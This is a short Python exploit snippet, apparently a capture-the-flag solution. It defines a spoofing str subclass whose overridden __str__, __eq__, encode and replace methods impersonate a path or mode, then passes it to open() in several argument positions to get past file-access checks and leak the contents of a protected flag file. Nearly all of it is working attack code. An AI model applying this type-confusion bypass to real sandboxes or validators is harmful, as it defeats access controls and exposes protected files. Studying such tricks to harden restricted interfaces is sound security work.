# source: own: the façade of the gates as a gadget
class Text(str):
    def __str__(self): return './results/flag.txt'
    def __eq__(self, other): leak(other); return True
    def __hash__(self): return hash('r')
    def __iter__(self): return iter('r')
    def startswith(self, *a): return False
    def encode(self, *a): leak(a); return b'./results/flag.txt'
    def replace(self, *a): leak(a); return 'poison'
for a, k in (((Text('/a.txt'),), {}), (('/a.txt', Text('r')), {}), (('/a.txt', 'r'), {'encoding': Text('utf-8')}),
             (('/a.txt', 'r'), {'errors': Text('strict')}), (('/a.txt', 'r'), {'newline': Text('')})):
    try:
        f = open(*a, **k)
        leak(f.read()); leak(f.name); leak(f.mode); leak(f.encoding)
    except Exception as e:
        leak(e)
